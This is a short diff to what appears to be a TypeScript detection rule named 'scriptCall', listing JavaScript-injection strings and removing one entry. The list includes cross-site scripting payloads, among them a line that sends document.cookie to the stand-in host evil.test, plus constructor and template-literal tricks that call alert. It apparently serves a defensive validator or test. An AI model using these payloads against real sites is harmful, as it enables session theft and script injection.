@@ -41,7 +41,6 @@ export const scriptCall: ValueRule = {
     "[].constructor.constructor('alert(1)')()",
     "location='//evil.test/?'+document.cookie",
     'onerror=alert;throw 1',
-    '[7].map(prompt)',
     'setTimeout("go()",5)',
     "Reflect.get(window,'alert')(1)",
     'Array.prototype.sort.call`${alert}1337`',
